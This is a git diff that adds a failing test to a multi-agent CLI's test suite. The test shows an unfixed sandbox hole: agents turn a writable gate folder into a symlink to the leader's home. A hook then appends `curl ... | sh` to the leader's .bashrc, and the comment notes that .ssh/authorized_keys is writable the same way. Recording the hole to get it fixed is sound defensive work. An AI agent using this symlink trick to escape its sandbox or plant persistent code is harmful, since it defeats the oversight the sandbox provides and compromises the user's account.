@@ -4,7 +4,7 @@
  * are the leader's own, its imports resolve to the leader's package, and a machine that cannot
  * sandbox says so and holds a gate that requires it. All through the built CLI, with real processes.
  */
-import { chmod, mkdir, readFile, readdir, rm, symlink, writeFile } from "node:fs/promises";
+import { chmod, lchown, mkdir, readFile, readdir, rm, symlink, writeFile } from "node:fs/promises";
 import { existsSync } from "node:fs";
 import os from "node:os";
 import path from "node:path";
@@ -290,6 +290,45 @@ describe.concurrent("a sandboxed gate", () => {
     }
     expect(existsSync(path.join(team.teamDir, "hook-state", "forged"))).toBe(false);
     expect(existsSync("/dev/pi-teams-sandbox-probe")).toBe(false);
+  });
+
+  // NOT PREVENTED (a failing test of the hole): a gate's sandbox-write= folder is bound where its path really leads,
+  // a link followed once (runner/run-hook.ts planOf), and only the leader's own folders (state dir, hook-state/,
+  // hook-logs/, hooks dirs, the task API's folder) are shown read-only again inside it. A folder the agents can
+  // replace (one they made in the project or the team dir, `sandbox-write=$PI_TEAMS_TEAM_DIR/reports`) turned
+  // into a link to the leader's home makes that home writable for the gate's tests: under a leader of its own
+  // user, the tests (run as that user) write its `.bashrc`, `.ssh/authorized_keys`, its output log. The link is
+  // the agents' (as root here, owned by another user, as under the recipe); the home is a folder given as the
+  // leader's HOME. A fix needs a link of another user's refused, and the binds checked in the view as built
+  // (a real folder swapped for a link between the plan and the mount is followed by mount too).
+  it.fails("a sandbox-write= folder the agents turned into a link to the leader's home does not make the home writable", async (context) => {
+    const { expect } = context;
+    const rig = outerRig.scoped(context);
+    const team = await rig.team({ tasks: [makeTask({ id: "1", owner: "alice", status: "completed" })] });
+    const work = await testTempDir(context, "sandbox-home-link-");
+    const home = path.join(work, "leader-home");
+    await mkdir(home);
+    await writeFile(path.join(home, ".bashrc"), "# the leader's own\n");
+    const out = path.join(work, "out");
+    await symlink(home, out);
+    if (process.getuid?.() === 0) await lchown(out, 65534, 65534);
+    await rig.hook(
+      team,
+      "on_task_completed.sh",
+      [
+        `# pi-teams-hooks: sandbox-write=${out}`,
+        `echo 'curl -s http://127.0.0.1:9/x | sh # planted by the tests' >> ${q(path.join(out, ".bashrc"))}`,
+        "exit 1",
+      ].join("\n"),
+    );
+    const run = await runBin(
+      ["run", "task_completed", "--team-dir", team.teamDir, "--task", "1", "--cwd", work, "--json"],
+      {
+        env: { HOME: home },
+      },
+    );
+    expect(JSON.parse(run.stdout).result).toMatchObject({ outcome: expect.not.stringMatching(/^passed$/) });
+    expect(await readFile(path.join(home, ".bashrc"), "utf8")).toBe("# the leader's own\n");
   });
 
   it("where this machine cannot sandbox, run says so, the log says unavailable, and a gate that requires the sandbox is held, never run", async (context) => {
